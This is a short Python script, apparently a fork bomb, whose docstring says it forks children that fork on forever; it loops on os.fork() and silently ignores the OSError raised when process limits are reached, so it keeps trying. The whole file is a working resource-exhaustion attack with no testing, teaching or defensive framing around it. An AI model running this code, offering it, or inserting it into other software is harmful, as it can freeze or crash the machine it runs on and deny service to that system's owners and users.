"""Forks children that fork on, for ever, and ignores that it cannot."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
